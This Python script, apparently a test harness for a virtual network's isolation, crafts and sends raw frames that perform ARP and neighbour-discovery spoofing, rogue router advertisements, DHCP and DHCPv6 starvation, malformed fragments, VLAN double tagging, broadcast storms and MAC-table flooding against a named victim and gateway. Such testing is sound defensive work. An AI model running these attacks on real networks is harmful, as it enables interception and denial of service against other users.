"""Attacks the network that it is in, one attack after the other; prints the name of each that was sent, then "done".

Arguments: `packet IFNAME` (a packet socket in a guest) or `stream SOCKET` (a client of a stream node); then MAC, IPv4
and IPv6 addresses of the attacker, of a victim and of the gateway; then the subnet's prefix, as 10.1.2."""

import ipaddress
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

how, where = sys.argv[1:3]
ME, MY4, MY6, VICTIM, VICTIM4, VICTIM6, GATEWAY, GATEWAY4, GATEWAY6, SPARE4 = sys.argv[3:13]


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def v4(text):
    return ipaddress.IPv4Address(text).packed


def v6(text):
    return ipaddress.IPv6Address(text).packed


ME, VICTIM, GATEWAY = mac(ME), mac(VICTIM), mac(GATEWAY)
MY4, VICTIM4, GATEWAY4 = v4(MY4), v4(VICTIM4), v4(GATEWAY4)
MY6, VICTIM6, GATEWAY6 = v6(MY6), v6(VICTIM6), v6(GATEWAY6)
LOCAL6 = v6("fe80::") [:8] + bytes([ME[0] ^ 2, ME[1], ME[2], 0xFF, 0xFE, ME[3], ME[4], ME[5]])
ALL = b"\xff" * 6
OTHER = mac("06:4e:77:00:00:01")
NODES = v6("ff02::1")
NODES_MAC = mac("33:33:00:00:00:01")
SERVERS = v6("ff02::1:2")
SERVERS_MAC = mac("33:33:00:01:00:02")
NOBODY4, NOBODY6 = b"\0" * 4, b"\0" * 16

ARP, IP4, IP6 = 0x0806, 0x0800, 0x86DD
ICMP, IGMP, TCP, UDP, ICMP6 = 1, 2, 6, 17, 58
HOPS, ROUTING, FRAGMENT, OPTIONS = 0, 43, 44, 60


def total(data):
    """The Internet checksum."""
    data += b"\0" * (len(data) % 2)
    value = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while value >> 16:
        value = (value & 0xFFFF) + (value >> 16)
    return ~value & 0xFFFF


def eth(to, kind, body, source=None):
    return to + (source or ME) + struct.pack("!H", kind) + body + b"\0" * max(0, 46 - len(body))


def arp(operation, source, source4, target, target4, hardware=1):
    return struct.pack("!HHBBH", hardware, IP4, 6, 4, operation) + source + source4 + target + target4


def ip4(source, to, protocol, body, ttl=64, fragment=0, options=b"", number=1, version=4, good=True):
    words = 5 + len(options) // 4
    header = struct.pack(
        "!BBHHHBBH4s4s",
        version << 4 | words,
        0,
        words * 4 + len(body),
        number,
        fragment,
        ttl,
        protocol,
        0,
        source,
        to,
    )
    header += options
    check = total(header) ^ (0 if good else 0x5555)
    return header[:10] + struct.pack("!H", check) + header[12:] + body


def ip6(source, to, following, body, hops=64):
    return struct.pack("!IHBB", 6 << 28, len(body), following, hops) + source + to + body


def upper(source, to, protocol, body, at):
    """The body with its checksum in place."""
    if len(source) == 4:
        pseudo = source + to + struct.pack("!BBH", 0, protocol, len(body))
    else:
        pseudo = source + to + struct.pack("!IBBBB", len(body), 0, 0, 0, protocol)
    check = total(pseudo + body) or 0xFFFF
    return body[:at] + struct.pack("!H", check) + body[at + 2 :]


def udp(source, to, source_port, port, data):
    body = struct.pack("!HHHH", source_port, port, 8 + len(data), 0) + data
    return upper(source, to, UDP, body, 6)


def tcp(source, to, flags, data=b""):
    body = struct.pack("!HHIIBBHHH", 4000, 4001, 1, 1, 5 << 4, flags, 1000, 0, 0) + data
    return upper(source, to, TCP, body, 16)


def icmp4(kind, code, rest):
    body = struct.pack("!BBH", kind, code, 0) + rest
    return body[:2] + struct.pack("!H", total(body)) + body[4:]


def icmp6(source, to, kind, rest, code=0):
    return upper(source, to, ICMP6, struct.pack("!BBH", kind, code, 0) + rest, 2)


def nd(source, to, kind, rest, hops=255):
    return ip6(source, to, ICMP6, icmp6(source, to, kind, rest), hops)


def to_victim4(body, protocol=UDP, source=None, **more):
    return eth(VICTIM, IP4, ip4(source or MY4, VICTIM4, protocol, body, **more))


def to_victim6(body, following=UDP, source=None, **more):
    return eth(VICTIM, IP6, ip6(source or MY6, VICTIM6, following, body, **more))


def plain(source, to):
    return udp(source, to, 4000, 4001, b"forged")


def dhcp(kind, chaddr, ciaddr=b"\0" * 4, more=b"", operation=1):
    head = struct.pack("!BBBBIHH", operation, 1, 6, 0, 0x1234, 0, 0)
    head += ciaddr + b"\0" * 12 + chaddr + b"\0" * 10 + b"\0" * 192
    return head + b"\x63\x82\x53\x63" + bytes([53, 1, kind]) + more + b"\xff"


def dhcp_from(kind, chaddr, **more):
    nobody, everybody = b"\0" * 4, b"\xff" * 4
    body = udp(nobody, everybody, 68, 67, dhcp(kind, chaddr, **more))
    return eth(ALL, IP4, ip4(nobody, everybody, UDP, body))


def option6(kind, body):
    return struct.pack("!HH", kind, len(body)) + body


def solicit(identifier):
    """A DHCPv6 client wants an address."""
    message = b"\x01\0\0\x01" + option6(1, identifier) + option6(3, b"\0" * 12)
    return eth(SERVERS_MAC, IP6, ip6(LOCAL6, SERVERS, UDP, udp(LOCAL6, SERVERS, 546, 547, message)))


def piece6(offset, more, number, body):
    """A part of a datagram for the victim."""
    return to_victim6(bytes([UDP, 0]) + struct.pack("!HI", offset | more, number) + body, FRAGMENT)


def lladdr(kind, address):
    return bytes([kind, 1]) + address


def padded(following, count):
    """So many empty headers of destination options before what follows."""
    chain = b""
    for left in range(count, 0, -1):
        chain += bytes([OPTIONS if left > 1 else following, 0, 1, 4, 0, 0, 0, 0])
    return chain


ADVERTISEMENT = struct.pack("!BBHII", 64, 0, 1800, 0, 0) + lladdr(1, ME)
RA = nd(LOCAL6, NODES, 134, ADVERTISEMENT)
RA_MESSAGE = icmp6(LOCAL6, NODES, 134, ADVERTISEMENT)
BEHIND = padded(ICMP6, 1) + RA_MESSAGE
CUT = bytes([ICMP6, 0]) + struct.pack("!HI", 1, 7) + RA_MESSAGE[:16]
ROUTE = bytes([UDP, 2, 0, 1, 0, 0, 0, 0]) + GATEWAY6
JUMBO = bytes([UDP, 0, 0xC2, 4]) + struct.pack("!I", 70000)
ALERT = bytes([ICMP6, 0, 5, 2, 0, 0, 1, 0])
HIDDEN = bytes([TCP, 0]) + struct.pack("!HI", 1, 8) + b"\0" * 8
SOLICITED = b"\xff\x02" + b"\0" * 9 + b"\x01\xff" + VICTIM6[13:]
SOLICITED_MAC = b"\x33\x33\xff" + VICTIM6[13:]
MANY = ip4(MY4, b"\xff" * 4, UDP, plain(MY4, b"\xff" * 4))
DHCP_CUT = udp(MY4, VICTIM4, 68, 67, dhcp(1, ME))

attacks = {
    "ethernet addresses": [
        eth(ALL, IP4, MANY, VICTIM),
        eth(ALL, IP4, MANY, GATEWAY),
        eth(ALL, IP4, MANY, b"\x01" + ME[1:]),
    ],
    "arp": [
        eth(VICTIM, ARP, arp(2, ME, GATEWAY4, VICTIM, VICTIM4)),
        eth(GATEWAY, ARP, arp(2, ME, VICTIM4, GATEWAY, GATEWAY4)),
        eth(VICTIM, ARP, arp(2, OTHER, MY4, VICTIM, VICTIM4)),
        eth(ALL, ARP, arp(1, ME, VICTIM4, b"\0" * 6, VICTIM4)),
        eth(ALL, ARP, arp(2, ME, GATEWAY4, ALL, GATEWAY4)),
        eth(ALL, ARP, arp(2, ME, MY4, VICTIM, VICTIM4)),
        eth(VICTIM, ARP, arp(2, ME, MY4, VICTIM, VICTIM4, hardware=6)),
        eth(VICTIM, ARP, arp(8, ME, MY4, VICTIM, VICTIM4)),
    ],
    # Who tries an address and hears another's probe for it gives it up.
    "probes": [
        eth(VICTIM, ARP, arp(1, ME, NOBODY4, b"\0" * 6, VICTIM4)),
    ]
    + [eth(ALL, ARP, arp(1, ME, NOBODY4, b"\0" * 6, VICTIM4))] * 8
    + [eth(SOLICITED_MAC, IP6, nd(NOBODY6, SOLICITED, 135, b"\0" * 4 + VICTIM6))] * 8,
    "ipv4": [
        to_victim4(plain(GATEWAY4, VICTIM4), source=GATEWAY4),
        to_victim4(plain(VICTIM4, VICTIM4), source=VICTIM4),
        to_victim4(plain(v4("127.0.0.1"), VICTIM4), source=v4("127.0.0.1")),
        to_victim4(plain(MY4, VICTIM4), good=False),
        to_victim4(plain(MY4, VICTIM4), version=7),
        to_victim4(plain(MY4, VICTIM4), options=b"\x83\x07\x04" + GATEWAY4 + b"\0"),
        eth(VICTIM, IP4, ip4(MY4, v4("169.254.169.254"), UDP, plain(MY4, v4("169.254.169.254")))),
        eth(VICTIM, IP4, ip4(MY4, v4("240.0.0.1"), UDP, plain(MY4, v4("240.0.0.1")))),
        eth(ALL, IP4, ip4(MY4, VICTIM4, UDP, plain(MY4, VICTIM4))),
        to_victim4(plain(MY4, VICTIM4), ttl=0),
    ],
    "ipv4 fragments": [
        to_victim4(b"\0" * 8, TCP, fragment=0x2000, number=11),
        to_victim4(plain(MY4, VICTIM4)[:8] + b"\0" * 72, fragment=0x2000, number=12),
        to_victim4(b"\0" * 80, fragment=0x2000 | 5, number=12),
        to_victim4(b"\0" * 80, fragment=100, number=13),
        to_victim4(DHCP_CUT[:160], fragment=0x2000, number=14),
    ],
    "transport": [
        to_victim4(icmp4(5, 1, GATEWAY4 + ip4(VICTIM4, MY4, UDP, b"\0" * 8)), ICMP),
        to_victim4(tcp(MY4, VICTIM4, 0), TCP),
        to_victim4(tcp(MY4, VICTIM4, 3), TCP),
        to_victim4(b"\0" * 4, TCP),
    ],
    "dhcp": [
        eth(VICTIM, IP4, ip4(MY4, VICTIM4, UDP, udp(MY4, VICTIM4, 67, 68, dhcp(2, VICTIM, operation=2)))),
        dhcp_from(1, VICTIM),
        eth(GATEWAY, IP4, ip4(MY4, GATEWAY4, UDP, udp(MY4, GATEWAY4, 68, 67, dhcp(7, ME, ciaddr=VICTIM4)))),
    ],
    # One message in a while, so that not the rate is met but the number of clients.
    "dhcp starvation": [
        dhcp_from(1, ME, more=bytes([61, 7, 255, number, 0, 0, 0, 0, 0])) for number in range(24)
    ],
    "ipv6": [
        to_victim6(plain(VICTIM6, VICTIM6), source=VICTIM6),
        to_victim6(plain(GATEWAY6, VICTIM6), source=GATEWAY6),
        to_victim6(plain(v6("2002:c000:201::1"), VICTIM6), source=v6("2002:c000:201::1")),
        to_victim6(plain(MY6, VICTIM6), hops=0),
        to_victim6(ROUTE + plain(MY6, VICTIM6), ROUTING),
        to_victim6(JUMBO + plain(MY6, VICTIM6), HOPS),
        to_victim6(padded(UDP, 12) + plain(MY6, VICTIM6), OPTIONS),
        to_victim6(HIDDEN, FRAGMENT),
        eth(ALL, IP6, ip6(MY6, VICTIM6, UDP, plain(MY6, VICTIM6))),
    ],
    "ipv6 fragments": [
        piece6(0, 1, 21, plain(MY6, VICTIM6)[:8] + b"\0" * 72),
        piece6(40, 1, 21, b"\0" * 80),
        piece6(80, 0, 22, b"\0" * 80),
        # Behind a hole that its receiver waits for.
        piece6(0, 1, 23, plain(MY6, VICTIM6)[:8] + b"\0" * 72),
        piece6(160, 0, 23, b"\0" * 8),
        piece6(80, 1, 23, b"\0" * 96),
    ],
    "dhcpv6 starvation": [solicit(b"\0\x04" + bytes([number]) * 16) for number in range(24)],
    "neighbour discovery": [
        eth(NODES_MAC, IP6, RA),
        eth(NODES_MAC, IP6, ip6(LOCAL6, NODES, OPTIONS, BEHIND, 255)),
        eth(NODES_MAC, IP6, ip6(LOCAL6, NODES, FRAGMENT, CUT, 255)),
        eth(VICTIM, IP6, nd(MY6, VICTIM6, 136, b"\x60\0\0\0" + GATEWAY6 + lladdr(2, ME))),
        eth(NODES_MAC, IP6, nd(MY6, NODES, 136, b"\x20\0\0\0" + VICTIM6 + lladdr(2, ME))),
        eth(SOLICITED_MAC, IP6, nd(MY6, SOLICITED, 135, b"\0" * 4 + VICTIM6 + lladdr(1, OTHER))),
        eth(SOLICITED_MAC, IP6, nd(MY6, SOLICITED, 135, b"\0" * 4 + VICTIM6 + lladdr(1, ME), 64)),
        eth(VICTIM, IP6, nd(LOCAL6, VICTIM6, 137, b"\0" * 4 + MY6 + GATEWAY6)),
        eth(NODES_MAC, IP6, ip6(LOCAL6, NODES, HOPS, ALERT + icmp6(LOCAL6, NODES, 130, b"\0" * 20), 1)),
        # A reply of a server that names itself.
        to_victim6(udp(LOCAL6, VICTIM6, 547, 546, b"\x07\0\0\x01" + option6(2, b"\0\x03\0\x01" + ME)), source=LOCAL6),
    ],
    "groups": [
        eth(
            mac("01:00:5e:00:00:01"),
            IP4,
            ip4(MY4, v4("224.0.0.1"), IGMP, icmp4(0x11, 100, b"\0" * 4), 1, options=b"\x94\x04\0\0"),
        ),
        eth(mac("01:00:5e:01:02:03"), IP4, ip4(MY4, v4("239.1.2.3"), IGMP, icmp4(0x16, 0, v4("239.1.2.3")), 64)),
    ],
    "tags": [
        eth(VICTIM, 0x8100, struct.pack("!HH", 100, IP4) + ip4(MY4, VICTIM4, UDP, plain(MY4, VICTIM4))),
        eth(
            VICTIM,
            0x8100,
            struct.pack("!HHHH", 0, 0x8100, 100, IP4) + ip4(MY4, VICTIM4, UDP, plain(MY4, VICTIM4)),
        ),
    ],
    "wrappers": [
        eth(VICTIM, 8 + len(MANY), b"\xaa\xaa\x03\0\0\0\x08\0" + ip4(VICTIM4, VICTIM4, UDP, plain(VICTIM4, VICTIM4))),
        eth(VICTIM, 0x8864, b"\x11\0\0\x01" + struct.pack("!HH", 2 + len(MANY), 0x21) + MANY),
        eth(VICTIM, 0x6003, b"whatever"),
    ],
    "bridges": [
        eth(mac("01:80:c2:00:00:00"), 38, b"\x42\x42\x03" + b"\0" * 35),
        eth(mac("01:80:c2:00:00:0e"), 0x88CC, b"\x02\x07\x04" + ME),
        eth(mac("01:80:c2:00:00:08"), 38, b"\x42\x42\x03" + b"\0" * 35),
        eth(mac("01:00:0c:cc:cc:cd"), 50, b"\xaa\xaa\x03\0\0\x0c\x01\x0b" + b"\0" * 42),
        eth(mac("01:00:0c:cc:cc:cc"), 40, b"\xaa\xaa\x03\0\0\x0c\x20\0"),
        eth(VICTIM, 0x888E, b"\x01\x01\0\0"),
    ],
    "questions": [eth(ALL, ARP, arp(1, ME, MY4, b"\0" * 6, VICTIM4))] * 200,
    "scans": [
        eth(ALL, ARP, arp(1, ME, MY4, b"\0" * 6, v4(f"{SPARE4}.{number}"))) for number in range(1, 250)
    ]
    + [
        eth(
            b"\x33\x33\xff" + bytes([0, 1, number]),
            IP6,
            nd(
                MY6,
                v6("ff02::1:ff00:0") [:13] + bytes([0, 1, number]),
                135,
                b"\0" * 4 + MY6[:13] + bytes([0, 1, number]) + lladdr(1, ME),
            ),
        )
        for number in range(250)
    ],
    "storm": [eth(ALL, IP4, MANY)] * 20000,
    "unknown storm": [
        eth(b"\x06\x4e\x99\0" + struct.pack("!H", number), IP4, ip4(MY4, VICTIM4, UDP, plain(MY4, VICTIM4)))
        for number in range(20000)
    ],
}
if how == "stream":
    # Whoever comes first has an address, but not any number of them.
    attacks["many addresses"] = [
        to_victim4(plain(v4(f"{SPARE4}.{number}"), VICTIM4), source=v4(f"{SPARE4}.{number}"))
        for number in range(1, 40)
    ] + [
        to_victim6(plain(MY6[:15] + bytes([number]), VICTIM6), source=MY6[:15] + bytes([number]))
        for number in range(1, 40)
    ]


class Packet:
    def __init__(self, name):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.socket.bind((name, 0))

    def send(self, frames):
        for frame in frames:
            while True:
                try:
                    self.socket.send(frame)
                    break
                except OSError:
                    time.sleep(0.001)


class Stream:
    def __init__(self, path):
        self.socket = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.socket.connect(path)
        # What comes for us is thrown away, or the network would have to keep it.
        def swallow():
            while self.socket.recv(1 << 16):
                pass

        threading.Thread(target=swallow, daemon=True).start()

    def send(self, frames):
        block = bytearray()
        for frame in frames:
            block += struct.pack("!I", len(frame)) + frame
            if len(block) > 60000:
                self.socket.sendall(block)
                block.clear()
        self.socket.sendall(block)


link = Packet(where) if how == "packet" else Stream(where)
# Who we are.
link.send([eth(ALL, ARP, arp(1, ME, MY4, b"\0" * 6, MY4))])
for name, frames in attacks.items():
    if name.endswith("starvation"):
        for frame in frames:
            link.send([frame])
            time.sleep(0.21)
    else:
        link.send(frames)
        time.sleep(0.1)
    print(name, flush=True)
# A million of addresses; a packet socket makes a system call of each.
tail = MANY + b"\0" * 8
count = 1_000_000 if how == "stream" else 200_000
link.send(ALL + b"\x06\x4e" + struct.pack("!I", number) + b"\x08\0" + tail for number in range(count))
print("a million addresses", flush=True)

def settle():
    """Waits until the network has read what was sent: a device whose queue is full loses frames and says nothing."""
    gateway = socket.inet_ntoa(GATEWAY4)
    for _ in range(100):
        if subprocess.call(["ping", "-c", "1", "-W", "1", gateway], stdout=subprocess.DEVNULL) == 0:
            return
    sys.exit("the gateway does not answer any more")


if how == "packet":
    settle()
    # Forged vnet headers, by the kernel's own interface for such frames. It refuses some of them itself.
    PACKET_VNET_HDR = 15
    link.socket.setsockopt(263, PACKET_VNET_HDR, 1)
    body = ip4(MY4, VICTIM4, TCP, tcp(MY4, VICTIM4, 16, b"x" * 2800))
    # Flags, kind, length of headers, size of segments, start and offset of the checksum.
    forged = {
        "segments of 1": (1, 1, 54, 1, 34, 16),
        "segments of 8": (1, 1, 54, 8, 34, 16),
        "segments of 255": (1, 1, 54, 255, 34, 16),
        "segments of 0": (1, 1, 54, 0, 34, 16),
        "segments of 65535": (1, 1, 54, 65535, 34, 16),
        "TCP of IPv6": (1, 4, 54, 1400, 34, 16),
        "UDP fragments": (1, 3, 54, 1400, 34, 16),
        "UDP segments": (1, 5, 54, 1400, 34, 16),
        "a kind that is none": (1, 77, 54, 1400, 34, 16),
        "no checksum": (0, 1, 54, 1400, 0, 0),
        "a checksum in the addresses": (1, 0, 0, 0, 14, 12),
        "a checksum beside its field": (1, 0, 0, 0, 34, 8),
        "a checksum beyond the frame": (1, 0, 0, 0, 60000, 16),
        "headers of 65535": (1, 1, 65535, 1400, 34, 16),
        "headers of 0": (1, 1, 0, 1400, 34, 16),
    }
    for name, fields in forged.items():
        bytes_of = body if fields[1] else ip4(MY4, VICTIM4, TCP, tcp(MY4, VICTIM4, 16, b"x" * 1000))
        try:
            link.socket.send(struct.pack("=BBHHHH", *fields) + eth(VICTIM, IP4, bytes_of))
            print(f"forged: {name}", flush=True)
        except OSError as error:
            print(f"the kernel refuses {name}: {error}", flush=True)
    settle()
print("done", flush=True)
if how == "stream":
    # The port lives as long as the connection.
    signal.pause()
